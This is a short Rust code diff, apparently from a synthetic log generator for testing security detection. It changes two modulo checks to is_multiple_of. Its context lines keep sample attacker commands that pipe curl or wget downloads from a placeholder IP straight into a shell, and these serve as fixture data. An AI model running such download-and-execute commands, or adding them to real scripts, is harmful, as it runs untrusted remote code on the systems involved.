@@ -137,7 +137,7 @@ impl Rng {
 fn linux_event(r: &mut Rng) -> (Value, LogSource) {
     let user = r.pick(&["root", "alice", "bob", "deploy"]);
     let ip = format!("198.51.100.{}", r.next() % 5);
-    if r.next() % 3 == 0 {
+    if r.next().is_multiple_of(3) {
         let cmd = r.pick(&[
             "curl -s http://203.0.113.5/x | bash",
             "wget -qO- http://203.0.113.5/y | sh",
@@ -205,7 +205,7 @@ fn events(seed: u64, generated: usize) -> Vec<(i64, Value, LogSource)> {
     let total = generated + regression.len();
     for i in 0..total {
         let t = (i as i64) * 1_000 + (r.next() % 20_000) as i64 - 10_000;
-        let (ev, ls) = if !regression.is_empty() && r.next() % 4 == 0 {
+        let (ev, ls) = if !regression.is_empty() && r.next().is_multiple_of(4) {
             reg.next().cloned().unwrap()
         } else {
             linux_event(&mut r)
